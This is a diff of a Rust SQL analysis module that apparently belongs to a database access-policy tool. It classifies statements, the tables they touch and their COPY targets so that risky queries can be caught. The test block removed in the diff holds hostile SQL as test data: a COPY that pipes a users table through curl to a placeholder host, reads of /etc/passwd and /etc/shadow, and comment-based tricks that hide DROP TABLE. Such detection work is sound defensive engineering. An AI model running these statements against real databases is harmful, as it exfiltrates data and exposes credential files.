@@ -1,146 +1,9 @@
-//! SQL analysis for policy (PostgreSQL and MySQL dialects): a tokenizer-based analyser that, for
-//! each statement of a possibly multi-statement string, gives the statement kind, the relations
-//! read and written, the functions called, whether an UPDATE/DELETE has a WHERE clause, COPY's
-//! direction and target, writable CTEs, and the statements inside DO blocks and literal EXECUTE
-//! strings. Comments (`--`, `#` in MySQL, nested `/* */`), case, quoted identifiers,
-//! dollar-quoted strings and `E''` escapes are handled; text inside string literals is data.
-//! What it cannot analyse is marked (`certain: false`), so policy can fail closed.
-//!
-//! ```
-//! use sluice_protocols::sql::{self, Dialect, Kind};
-//! let stmts = sql::analyze("select 1; /* x */ DrOp TABLE public.users", Dialect::Postgres)?;
-//! assert_eq!(stmts[1].kind, Kind::Drop);
-//! assert_eq!(stmts[1].writes, ["public.users"]);
-//! # Ok::<(), sluice_protocols::sql::Error>(())
-//! ```
+//! The tokenizer-based analyser: MySQL's, and PostgreSQL's fast path ([`fast`]) for plain
+//! single statements (anything else goes to PostgreSQL's grammar, [`super::pg`]).
 
 use std::borrow::Cow;
-use std::fmt;
 
-/// The SQL dialect: quoting and comment rules differ.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Dialect {
-    /// PostgreSQL: `"ident"`, nested comments, `$tag$…$tag$`, `E'…'`.
-    Postgres,
-    /// MySQL / MariaDB: `` `ident` ``, `"…"` strings, `#` comments, backslash escapes, and
-    /// `/*! … */` comments whose content is executed.
-    MySql,
-}
-
-/// Why a string could not be tokenized.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Error {
-    offset: usize,
-}
-
-impl Error {
-    /// Where the unterminated string, identifier or comment starts.
-    pub fn offset(&self) -> usize {
-        self.offset
-    }
-}
-
-impl fmt::Display for Error {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(
-            f,
-            "unterminated string, identifier or comment starting at offset {}",
-            self.offset
-        )
-    }
-}
-
-impl std::error::Error for Error {}
-
-/// What a statement does.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-#[non_exhaustive]
-pub enum Kind {
-    /// SELECT, VALUES, TABLE, SHOW-like reads.
-    Select,
-    /// INSERT, REPLACE.
-    Insert,
-    /// UPDATE.
-    Update,
-    /// DELETE.
-    Delete,
-    /// MERGE.
-    Merge,
-    /// COPY, LOAD DATA.
-    Copy,
-    /// CREATE (tables, functions, …; roles and users are [`Kind::Role`]).
-    Create,
-    /// ALTER.
-    Alter,
-    /// DROP, and ALTER statements that drop or truncate (a column, a constraint, a partition).
-    Drop,
-    /// TRUNCATE.
-    Truncate,
-    /// GRANT.
-    Grant,
-    /// REVOKE.
-    Revoke,
-    /// CREATE/ALTER/DROP ROLE or USER, SET ROLE, SET PASSWORD.
-    Role,
-    /// SET.
-    Set,
-    /// SHOW.
-    Show,
-    /// BEGIN, START TRANSACTION, COMMIT, ROLLBACK, SAVEPOINT, RELEASE.
-    Transaction,
-    /// CALL.
-    Call,
-    /// DO (an anonymous code block).
-    Do,
-    /// EXECUTE, PREPARE, DEALLOCATE.
-    Execute,
-    /// EXPLAIN (the explained statement is analysed too).
-    Explain,
-    /// USE (MySQL).
-    Use,
-    /// LISTEN, UNLISTEN, NOTIFY (PostgreSQL asynchronous notifications).
-    Listen,
-    /// Anything else (VACUUM, LISTEN, …): reported, not guessed.
-    Other,
-}
-
-/// COPY's direction and endpoint.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub enum CopyTarget {
-    /// `COPY … TO STDOUT` / `FROM STDIN`.
-    Client,
-    /// A server-side file.
-    File(String),
-    /// A server-side program.
-    Program(String),
-}
-
-/// One analysed statement.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Statement {
-    /// Its kind.
-    pub kind: Kind,
-    /// Byte range in the input.
-    pub span: (usize, usize),
-    /// Relations read (schema-qualified as written, lowercased unless quoted).
-    pub reads: Vec<String>,
-    /// Relations written, created, altered or dropped.
-    pub writes: Vec<String>,
-    /// Functions called.
-    pub functions: Vec<String>,
-    /// For UPDATE and DELETE: whether there is a WHERE clause.
-    pub has_where: bool,
-    /// For COPY: `true` for COPY … FROM (into the database).
-    pub copy_from: bool,
-    /// For COPY: where the data goes or comes from.
-    pub copy_target: Option<CopyTarget>,
-    /// Whether a WITH clause holds INSERT/UPDATE/DELETE.
-    pub writable_cte: bool,
-    /// Statements inside DO blocks and literal EXECUTE strings.
-    pub nested: Vec<Statement>,
-    /// False when something could not be analysed statically (dynamic EXECUTE, unknown kind).
-    pub certain: bool,
-}
+use super::{CopyTarget, Dialect, Error, Kind, Lexing, Statement};
 
 #[derive(Debug, Clone, PartialEq, Eq)]
 enum Tok<'a> {
@@ -153,7 +16,7 @@ enum Tok<'a> {
     Semi,
 }
 
-fn tokenize(s: &str, d: Dialect) -> Result<Vec<(Tok<'_>, usize)>, Error> {
+fn tokenize<'a>(s: &'a str, d: Dialect, lx: &Lexing) -> Result<Vec<(Tok<'a>, usize)>, Error> {
     let b = s.as_bytes();
     let mut out = Vec::new();
     let mut i = 0;
@@ -162,14 +25,24 @@ fn tokenize(s: &str, d: Dialect) -> Result<Vec<(Tok<'_>, usize)>, Error> {
         let start = i;
         match c {
             _ if c.is_ascii_whitespace() => i += 1,
-            b'-' if b.get(i + 1) == Some(&b'-') => {
+            // MySQL: `--` starts a comment only before whitespace, a control character or the end
+            // (`1--1` is one minus minus one).
+            b'-' if b.get(i + 1) == Some(&b'-')
+                && (d == Dialect::Postgres || b.get(i + 2).is_none_or(|&c| c <= b' ')) =>
+            {
                 i = b[i..].iter().position(|&x| x == b'\n').map_or(b.len(), |p| i + p)
             }
             b'#' if d == Dialect::MySql => i = b[i..].iter().position(|&x| x == b'\n').map_or(b.len(), |p| i + p),
             b'/' if b.get(i + 1) == Some(&b'*') => {
-                if d == Dialect::MySql && b.get(i + 2) == Some(&b'!') {
-                    // Executable comment: its content is SQL. Skip the marker and the version.
-                    i += 3;
+                let marker = match (b.get(i + 2), b.get(i + 3)) {
+                    (Some(b'!'), _) => 3,
+                    (Some(b'M'), Some(b'!')) => 4,
+                    _ => 0,
+                };
+                if d == Dialect::MySql && marker > 0 {
+                    // Executable comment (`/*!50000 …*/`, MariaDB's `/*M!100100 …*/`): its
+                    // content is SQL. Skip the marker and the version.
+                    i += marker;
                     while b.get(i).is_some_and(u8::is_ascii_digit) {
                         i += 1;
                     }
@@ -178,7 +51,7 @@ fn tokenize(s: &str, d: Dialect) -> Result<Vec<(Tok<'_>, usize)>, Error> {
                 let mut depth = 0;
                 loop {
                     if i + 1 >= b.len() {
-                        return Err(Error { offset: start });
+                        return Err(Error::unterminated(start));
                     }
                     if b[i] == b'/' && b[i + 1] == b'*' {
                         depth += 1;
@@ -206,13 +79,16 @@ fn tokenize(s: &str, d: Dialect) -> Result<Vec<(Tok<'_>, usize)>, Error> {
                 if e_prefix {
                     out.pop(); // the E of E'…' was read as a word
                 }
-                let backslash = d == Dialect::MySql || e_prefix;
+                let backslash = match d {
+                    Dialect::MySql => lx.backslash_escapes,
+                    Dialect::Postgres => e_prefix || !lx.standard_conforming_strings,
+                };
                 let (text, end) = string(b, i, b'\'', backslash)?;
                 out.push((Tok::Str(text), start));
                 i = end;
             }
-            b'"' if d == Dialect::MySql => {
-                let (text, end) = string(b, i, b'"', true)?;
+            b'"' if d == Dialect::MySql && !lx.ansi_quotes => {
+                let (text, end) = string(b, i, b'"', lx.backslash_escapes)?;
                 out.push((Tok::Str(text), start));
                 i = end;
             }
@@ -234,7 +110,7 @@ fn tokenize(s: &str, d: Dialect) -> Result<Vec<(Tok<'_>, usize)>, Error> {
                         let close = b[body_start..]
                             .windows(tag.len())
                             .position(|w| w == tag)
-                            .ok_or(Error { offset: start })?;
+                            .ok_or(Error::unterminated(start))?;
                         out.push((
                             Tok::Str(String::from_utf8_lossy(&b[body_start..body_start + close]).into_owned()),
                             start,
@@ -317,18 +193,18 @@ fn string(b: &[u8], i: usize, q: u8, backslash: bool) -> Result<(String, usize),
             }
         }
     }
-    Err(Error { offset: i })
+    Err(Error::unterminated(i))
 }
 
 const MAX_NESTING: usize = 8;
 
 /// Splits `sql` into statements and analyses each.
-pub fn analyze(sql: &str, dialect: Dialect) -> Result<Vec<Statement>, Error> {
-    analyze_at(sql, dialect, 0)
+pub(super) fn analyze(sql: &str, dialect: Dialect, lx: &Lexing) -> Result<Vec<Statement>, Error> {
+    analyze_at(sql, dialect, lx, 0)
 }
 
-fn analyze_at(sql: &str, dialect: Dialect, depth: usize) -> Result<Vec<Statement>, Error> {
-    let toks = tokenize(sql, dialect)?;
+fn analyze_at(sql: &str, dialect: Dialect, lx: &Lexing, depth: usize) -> Result<Vec<Statement>, Error> {
+    let toks = tokenize(sql, dialect, lx)?;
     let mut out = Vec::new();
     for stmt in toks.split(|(t, _)| *t == Tok::Semi) {
         if stmt.is_empty() {
@@ -339,7 +215,7 @@ fn analyze_at(sql: &str, dialect: Dialect, depth: usize) -> Result<Vec<Statement
             .iter()
             .find(|(t, p)| *t == Tok::Semi && *p > start)
             .map_or(sql.len(), |(_, p)| *p);
-        out.push(statement(stmt, (start, end), dialect, depth));
+        out.push(statement(stmt, (start, end), dialect, lx, depth));
     }
     Ok(out)
 }
@@ -389,20 +265,14 @@ const NOT_RELATIONS: &[&str] = &[
     "table",
 ];
 
-fn statement(toks: &[(Tok<'_>, usize)], span: (usize, usize), dialect: Dialect, depth: usize) -> Statement {
-    let mut s = Statement {
-        kind: Kind::Other,
-        span,
-        reads: Vec::new(),
-        writes: Vec::new(),
-        functions: Vec::new(),
-        has_where: false,
-        copy_from: false,
-        copy_target: None,
-        writable_cte: false,
-        nested: Vec::new(),
-        certain: true,
-    };
+fn statement(
+    toks: &[(Tok<'_>, usize)],
+    span: (usize, usize),
+    dialect: Dialect,
+    lx: &Lexing,
+    depth: usize,
+) -> Statement {
+    let mut s = Statement::new(Kind::Other, span);
     let w = |i: usize| word(toks.get(i));
     // Skip a leading WITH … clause to find the main verb, noting writable CTEs.
     let mut verb_at = 0;
@@ -499,13 +369,24 @@ fn statement(toks: &[(Tok<'_>, usize)], span: (usize, usize), dialect: Dialect, 
         };
         s.certain = plain;
     }
+    if s.kind == Kind::Set {
+        set_parameters(toks, verb_at, &mut s);
+        // MariaDB `SET STATEMENT var = v [, …] FOR statement`: the statement runs.
+        if next == "statement"
+            && let Some(k) = toks.iter().position(|(t, _)| matches!(t, Tok::Word(x) if x == "for"))
+        {
+            s.nested.push(statement(&toks[k + 1..], span, dialect, lx, depth + 1));
+        }
+    }
     // Relations and functions, by the keyword before them.
     let mut i = 0;
     while i < toks.len() {
         let (t, _) = &toks[i];
         if let Tok::Word(x) = t {
             // A function: a name followed by `(` that is not a keyword introducing a list.
+            let after_into = i > 0 && matches!(&toks[i - 1].0, Tok::Word(p) if p == "into" || p == "table");
             if matches!(toks.get(i + 1), Some((Tok::Punct(b'('), _)))
+                && !after_into
                 && !matches!(
                     &**x,
                     "in" | "values"
@@ -669,7 +550,7 @@ fn statement(toks: &[(Tok<'_>, usize)], span: (usize, usize), dialect: Dialect, 
     };
     match s.kind {
         Kind::Do => match body_of(toks) {
-            Some(body) if depth < MAX_NESTING => match analyze_at(&body, dialect, depth + 1) {
+            Some(body) if depth < MAX_NESTING => match analyze_at(&body, dialect, lx, depth + 1) {
                 Ok(inner) => s.nested = inner,
                 Err(_) => s.certain = false,
             },
@@ -677,7 +558,7 @@ fn statement(toks: &[(Tok<'_>, usize)], span: (usize, usize), dialect: Dialect, 
         },
         Kind::Execute if verb == "execute" => match toks.get(verb_at + 1) {
             Some((Tok::Str(body), _)) if depth < MAX_NESTING => {
-                match analyze_at(body, dialect, depth + 1) {
+                match analyze_at(body, dialect, lx, depth + 1) {
                     Ok(inner) => s.nested = inner,
                     Err(_) => s.certain = false,
                 }
@@ -692,7 +573,7 @@ fn statement(toks: &[(Tok<'_>, usize)], span: (usize, usize), dialect: Dialect, 
         Kind::Explain => {
             let inner_at = toks.iter().position(|(t, _)| matches!(t, Tok::Word(x) if matches!(&**x, "select" | "insert" | "update" | "delete" | "merge" | "with" | "values" | "table")));
             if let Some(k) = inner_at {
-                s.nested.push(statement(&toks[k..], span, dialect, depth + 1));
+                s.nested.push(statement(&toks[k..], span, dialect, lx, depth + 1));
             }
         }
         _ => {}
@@ -709,142 +590,356 @@ fn statement(toks: &[(Tok<'_>, usize)], span: (usize, usize), dialect: Dialect, 
     s
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn pg(s: &str) -> Vec<Statement> {
-        analyze(s, Dialect::Postgres).expect("tokenizes")
-    }
-
-    #[test]
-    fn kinds_and_relations() {
-        let s = pg("SELECT u.id FROM public.users u JOIN orders o ON o.uid = u.id WHERE pg_catalog.now() > o.t");
-        assert_eq!(
-            (s[0].kind, s[0].reads.clone()),
-            (Kind::Select, vec!["public.users".to_string(), "orders".to_string()])
-        );
-        assert_eq!(s[0].functions, ["now"]);
-        let s = pg(
-            "insert into audit(id) select id from users; update accounts set balance = 0; delete from sessions where age > 3",
-        );
-        assert_eq!(
-            (s[0].kind, s[0].writes.clone(), s[0].reads.clone()),
-            (Kind::Insert, vec!["audit".to_string()], vec!["users".to_string()])
-        );
-        assert_eq!(
-            (s[1].kind, s[1].writes.clone(), s[1].has_where),
-            (Kind::Update, vec!["accounts".to_string()], false)
-        );
-        assert_eq!(
-            (s[2].kind, s[2].writes.clone(), s[2].has_where),
-            (Kind::Delete, vec!["sessions".to_string()], true)
-        );
-        assert_eq!(pg("select * from pg_shadow")[0].reads, ["pg_shadow"]);
-        assert_eq!(pg("TRUNCATE TABLE logs")[0].writes, ["logs"]);
-        assert_eq!(pg("drop table if exists \"Users\"")[0].writes, ["Users"]);
-        assert_eq!(pg("ALTER USER app WITH PASSWORD 'x'")[0].kind, Kind::Role);
-        assert_eq!(pg("grant all on x to y")[0].kind, Kind::Grant);
-        assert_eq!(pg("begin")[0].kind, Kind::Transaction);
-        assert_eq!(pg("SET search_path = x")[0].kind, Kind::Set);
-        assert!(!pg("vacuum full")[0].certain);
-    }
-
-    #[test]
-    fn evasion_resistance() {
-        let s = pg("SeLeCt 1; /* a /* nested */ comment */ DrOp\n\tTABLE --x\n users");
-        assert_eq!(
-            (s.len(), s[1].kind, s[1].writes.clone()),
-            (2, Kind::Drop, vec!["users".to_string()])
-        );
-        let s = pg("select 'DROP TABLE users; --', $$ DELETE FROM x $$, E'\\' ; drop table y'");
-        assert_eq!(s.len(), 1, "text inside literals is data: {s:?}");
-        assert_eq!(s[0].kind, Kind::Select);
-        let s = pg("select * from \"pg_shadow\"");
-        assert_eq!(s[0].reads, ["pg_shadow"]);
-        assert!(analyze("select 'open", Dialect::Postgres).is_err());
-        assert!(analyze("select /* open", Dialect::Postgres).is_err());
-    }
-
-    #[test]
-    fn copy_do_execute_and_ctes() {
-        let s = pg("COPY users TO PROGRAM 'curl -d @- http://x'");
-        assert_eq!(
-            (s[0].kind, s[0].copy_target.clone(), s[0].copy_from),
-            (
-                Kind::Copy,
-                Some(CopyTarget::Program("curl -d @- http://x".into())),
-                false
-            )
-        );
-        assert_eq!(s[0].reads, ["users"]);
-        let s = pg("copy t from '/etc/passwd'");
-        assert_eq!(
-            (s[0].copy_target.clone(), s[0].copy_from, s[0].writes.clone()),
-            (
-                Some(CopyTarget::File("/etc/passwd".into())),
-                true,
-                vec!["t".to_string()]
-            )
-        );
-        assert_eq!(pg("copy t to stdout")[0].copy_target, Some(CopyTarget::Client));
-        let s = pg("DO $body$ BEGIN DROP TABLE users; END $body$");
-        assert_eq!(s[0].kind, Kind::Do);
-        assert!(
-            s[0].nested
-                .iter()
-                .any(|n| n.kind == Kind::Drop && n.writes == ["users"]),
-            "{:?}",
-            s[0].nested
-        );
-        let s = pg("EXECUTE 'truncate audit'");
-        assert_eq!(s[0].nested[0].kind, Kind::Truncate);
-        assert!(!pg("EXECUTE stmt1")[0].certain);
-        let s = pg("DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$");
-        assert!(!s[0].certain && s[0].nested.iter().any(|n| !n.certain), "{s:?}");
-        let s = pg("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone");
-        assert!(s[0].writable_cte);
-        assert_eq!(s[0].kind, Kind::Select);
-        let s = pg("EXPLAIN ANALYZE DELETE FROM users");
-        assert_eq!((s[0].kind, s[0].nested[0].kind), (Kind::Explain, Kind::Delete));
-    }
-
-    #[test]
-    fn mysql_dialect() {
-        let s = analyze(
-            "select `password` from mysql.user # comment\n; /*!50000 DROP TABLE t */",
-            Dialect::MySql,
-        )
-        .expect("ok");
-        assert_eq!(s[0].reads, ["mysql.user"]);
-        assert_eq!((s[1].kind, s[1].writes.clone()), (Kind::Drop, vec!["t".to_string()]));
-        let s = analyze("select \"a;b\", 'it\\'s; drop table x'", Dialect::MySql).expect("ok");
-        assert_eq!(s.len(), 1);
-        let s = analyze("LOAD DATA INFILE '/etc/shadow' INTO TABLE t", Dialect::MySql).expect("ok");
-        assert_eq!(
-            (s[0].kind, s[0].copy_target.clone()),
-            (Kind::Copy, Some(CopyTarget::File("/etc/shadow".into())))
-        );
-    }
-
-    #[test]
-    fn arbitrary_input_never_panics() {
-        let alphabet: &[&str] = &[
-            "select", "drop", "from", "$$", "$a$", "'", "\"", "`", "/*", "*/", "--", "\n", ";", "(", ")", "e'", "\\",
-            "x", " ", ".", "do", "execute", "copy", "with", "#", "/*!",
-        ];
-        let mut seed = 0x0123_4567_89AB_CDEFu64;
-        for _ in 0..20_000 {
-            let mut v = String::new();
-            for _ in 0..(seed % 16) {
-                seed ^= seed << 13;
-                seed ^= seed >> 7;
-                seed ^= seed << 17;
-                v.push_str(alphabet[(seed >> 33) as usize % alphabet.len()]);
+/// The parameters a SET statement assigns: the name after `SET` and after each top-level comma,
+/// past scope words and `@@scope.`; `SET NAMES` / `SET CHARACTER SET` set the client encoding.
+fn set_parameters(toks: &[(Tok<'_>, usize)], verb_at: usize, s: &mut Statement) {
+    let mut level = 0i32;
+    let mut at = Some(verb_at + 1);
+    for (i, (t, _)) in toks.iter().enumerate().skip(verb_at + 1) {
+        match t {
+            Tok::Punct(b'(') => level += 1,
+            Tok::Punct(b')') => level -= 1,
+            Tok::Punct(b',') if level == 0 => at = Some(i + 1),
+            Tok::Word(w) if at.is_some_and(|a| a <= i) => {
+                match &**w {
+                    "global" | "session" | "local" | "persist" | "persist_only" | "statement" => {
+                        // `@@session.x`: the scope is followed by a dot.
+                        continue;
+                    }
+                    "names" | "character" | "charset" => s.sets.push("client_encoding".into()),
+                    name => s.sets.push(name.to_string()),
+                }
+                at = None;
             }
-            seed = seed.wrapping_add(1);
-            let _ = analyze(&v, Dialect::Postgres);
-            let _ = analyze(&v, Dialect::MySql);
+            _ => {}
         }
     }
+    s.sets.sort();
+    s.sets.dedup();
+}
+
+/// Words that make the fast path hand the statement to the grammar: forms the grammar reads
+/// differently from a token scan (special function-call syntax, SQL value functions, type
+/// names with modifiers), clauses that bring relations or statements the scan does not follow,
+/// and anything that is not plain DML.
+const FAST_DECLINES: &[&str] = &[
+    "all",
+    "any",
+    "array",
+    "at",
+    "between",
+    "cast",
+    "collate",
+    "collation",
+    "conflict",
+    "copy",
+    "current_catalog",
+    "current_date",
+    "current_role",
+    "current_schema",
+    "current_time",
+    "current_timestamp",
+    "current_user",
+    "do",
+    "except",
+    "execute",
+    "exists",
+    "extract",
+    "filter",
+    "for",
+    "from_",
+    "greatest",
+    "grouping",
+    "intersect",
+    "into",
+    "json",
+    "json_array",
+    "json_arrayagg",
+    "json_exists",
+    "json_object",
+    "json_objectagg",
+    "json_query",
+    "json_scalar",
+    "json_serialize",
+    "json_table",
+    "json_value",
+    "lateral",
+    "least",
+    "localtime",
+    "localtimestamp",
+    "merge",
+    "natural",
+    "normalize",
+    "nullif",
+    "only",
+    "operator",
+    "overlay",
+    "overlaps",
+    "position",
+    "recursive",
+    "returning",
+    "row",
+    "rows",
+    "session_user",
+    "similar",
+    "some",
+    "substring",
+    "system_user",
+    "table",
+    "tablesample",
+    "treat",
+    "trim",
+    "union",
+    "user",
+    "using",
+    "variadic",
+    "window",
+    "with",
+    "within",
+    "coalesce",
+    "values",
+    "ordinality",
+    "merge_action",
+];
+
+/// Words that are keywords where the scan expects a name.
+const KEYWORDS: &[&str] = &[
+    "and",
+    "as",
+    "asc",
+    "by",
+    "case",
+    "cross",
+    "delete",
+    "desc",
+    "distinct",
+    "else",
+    "end",
+    "from",
+    "full",
+    "group",
+    "having",
+    "in",
+    "inner",
+    "insert",
+    "interval",
+    "is",
+    "join",
+    "left",
+    "like",
+    "ilike",
+    "limit",
+    "not",
+    "null",
+    "offset",
+    "on",
+    "or",
+    "order",
+    "outer",
+    "right",
+    "select",
+    "set",
+    "then",
+    "true",
+    "false",
+    "update",
+    "when",
+    "where",
+    "over",
+    "partition",
+    "default",
+];
+
+/// The characters PostgreSQL operators are made of.
+const OPERATOR_CHARS: &[u8] = b"+-*/<>=~!@#%^&|`?:";
+
+/// The operators the fast path reads (`::` is a cast); any other run of operator characters
+/// goes to the grammar.
+const FAST_OPERATORS: &[&str] = &[
+    "=", "<>", "!=", "<", ">", "<=", ">=", "+", "-", "*", "/", "%", "||", "::",
+];
+
+/// PostgreSQL's fast path: one plain SELECT, INSERT, UPDATE or DELETE (an optional trailing
+/// `;`) over plain names, `'…'` literals without prefixes, numbers, `$n` parameters and
+/// unqualified function calls, with no subquery, comment, quoted identifier, comma join or any
+/// word of [`FAST_DECLINES`]. `None`: the grammar must read it. Where it answers, it agrees
+/// with the grammar (`tests/sql_differential.rs`).
+pub(super) fn fast(sql: &str, lx: &Lexing) -> Option<Vec<Statement>> {
+    if !lx.standard_conforming_strings || sql.len() > 4096 {
+        return None;
+    }
+    let b = sql.as_bytes();
+    let trimmed = sql.trim_end();
+    let body = trimmed.strip_suffix(';').unwrap_or(trimmed);
+    let mut i = 0;
+    while i < body.len() {
+        let c = b[i];
+        let prev = i.checked_sub(1).map(|p| b[p]);
+        let ident = |p: Option<u8>| p.is_some_and(|p| p.is_ascii_alphanumeric() || p == b'_' || p == b'$');
+        match c {
+            0x80.. | b'"' | b'\\' | b'`' | b';' | 0 => return None,
+            b'$' if ident(prev) || !b.get(i + 1).is_some_and(u8::is_ascii_digit) => return None,
+            // A prefixed literal (E'', U&'', B'', X'', N'', typed 'x'): the grammar's.
+            b'\'' if ident(prev) || prev == Some(b'&') => return None,
+            b'\'' => {
+                // Past the literal ('' is a quote inside it).
+                i += 1;
+                loop {
+                    match b.get(i) {
+                        None => return None,
+                        Some(b'\'') if b.get(i + 1) == Some(&b'\'') => i += 2,
+                        Some(b'\'') => break,
+                        Some(0x80..) | Some(0) => return None,
+                        Some(_) => i += 1,
+                    }
+                }
+            }
+            // An operator: one PostgreSQL ships with (comments start with an operator
+            // character too); others are the grammar's to check.
+            _ if OPERATOR_CHARS.contains(&c) => {
+                let end = b[i..body.len()]
+                    .iter()
+                    .position(|x| !OPERATOR_CHARS.contains(x))
+                    .map_or(body.len(), |p| i + p);
+                if !FAST_OPERATORS.contains(&&body[i..end]) {
+                    return None;
+                }
+                i = end;
+                continue;
+            }
+            b'[' | b']' | b'{' | b'}' => return None,
+            _ => {}
+        }
+        i += 1;
+    }
+    let toks = tokenize(body, Dialect::Postgres, lx).ok()?;
+    let verb = match toks.first() {
+        Some((Tok::Word(w), _)) => &**w,
+        _ => return None,
+    };
+    if !matches!(verb, "select" | "insert" | "update" | "delete") {
+        return None;
+    }
+    // In a FROM list (by parenthesis level): a comma there is a join the scan does not follow.
+    let mut in_from = vec![false];
+    for (i, (t, _)) in toks.iter().enumerate() {
+        let level = in_from.len() - 1;
+        match t {
+            Tok::Word(w) => {
+                let part_of_insert =
+                    verb == "insert" && in_from.len() == 1 && (w == "values" || (w == "into" && i == 1));
+                if (FAST_DECLINES.contains(&&**w) && !part_of_insert)
+                    || (i > 0 && matches!(&**w, "select" | "insert" | "update" | "delete"))
+                {
+                    return None;
+                }
+                let call = matches!(toks.get(i + 1), Some((Tok::Punct(b'('), _)));
+                let after = |p: u8| i > 0 && matches!(toks[i - 1], (Tok::Punct(x), _) if x == p);
+                // A qualified call, or a type name with modifiers after `::`.
+                if call && (after(b'.') || after(b':')) {
+                    return None;
+                }
+                match &**w {
+                    "from" => in_from[level] = true,
+                    "where" | "group" | "having" | "order" | "limit" | "offset" | "fetch" | "set" => {
+                        in_from[level] = false
+                    }
+                    _ => {}
+                }
+            }
+            Tok::Punct(b'(') => in_from.push(false),
+            Tok::Punct(b')') => {
+                in_from.pop();
+                if in_from.is_empty() {
+                    return None;
+                }
+            }
+            Tok::Punct(b',') if in_from[level] => return None,
+            Tok::Quoted(_) | Tok::Semi => return None,
+            _ => {}
+        }
+    }
+    if in_from.len() != 1 {
+        return None;
+    }
+    let mut s = statement(&toks, (0, sql.len()), Dialect::Postgres, lx, 0);
+    if !s.certain || !s.nested.is_empty() {
+        return None;
+    }
+    // A keyword where a name was expected (`select true join from x`): the scan misread it.
+    if s.reads
+        .iter()
+        .chain(&s.writes)
+        .chain(&s.functions)
+        .any(|n| n.split('.').any(|p| KEYWORDS.contains(&p)))
+    {
+        return None;
+    }
+    if matches!(s.kind, Kind::Update | Kind::Delete) {
+        // A WHERE that seems to bound nothing (`WHERE true`) is the grammar's to judge.
+        s.has_where = where_bounds(&toks);
+        if !s.has_where && toks.iter().any(|(t, _)| matches!(t, Tok::Word(x) if x == "where")) {
+            return None;
+        }
+    }
+    Some(vec![s])
+}
+
+/// Whether a top-level WHERE clause names a column: a word not followed by `(` or a literal
+/// (a call, a typed literal), not after `::` (a type), and not a keyword. A clause of constants
+/// (`WHERE true`, `WHERE 1 = 1`) bounds nothing.
+fn where_bounds(toks: &[(Tok<'_>, usize)]) -> bool {
+    let Some(w) = toks.iter().position(|(t, _)| matches!(t, Tok::Word(x) if x == "where")) else {
+        return false;
+    };
+    (w + 1..toks.len()).any(|i| match &toks[i].0 {
+        Tok::Word(x) => {
+            // A column stands between operators, parentheses, commas and the boolean keywords;
+            // `name 'x'`, `name $1`, `name(` are typed literals and calls, `::name` a type.
+            let joins = |t: Option<&(Tok<'_>, usize)>| match t {
+                None => true,
+                Some((Tok::Punct(p), _)) => *p != b'(' && *p != b':',
+                Some((Tok::Word(k), _)) => {
+                    matches!(
+                        &**k,
+                        "and" | "or" | "not" | "is" | "in" | "like" | "ilike" | "where" | "between"
+                    )
+                }
+                _ => false,
+            };
+            let after_cast = i >= 1 && matches!(toks[i - 1].0, Tok::Punct(b':'));
+            joins(toks.get(i + 1))
+                && joins(i.checked_sub(1).and_then(|p| toks.get(p)))
+                && !after_cast
+                && !matches!(
+                    &**x,
+                    "true"
+                        | "false"
+                        | "null"
+                        | "not"
+                        | "and"
+                        | "or"
+                        | "is"
+                        | "in"
+                        | "like"
+                        | "ilike"
+                        | "escape"
+                        | "distinct"
+                        | "from"
+                        | "isnull"
+                        | "notnull"
+                        | "unknown"
+                        | "interval"
+                        | "asc"
+                        | "desc"
+                        | "limit"
+                        | "order"
+                        | "by"
+                        | "nulls"
+                        | "first"
+                        | "last"
+                )
+        }
+        _ => false,
+    })
 }
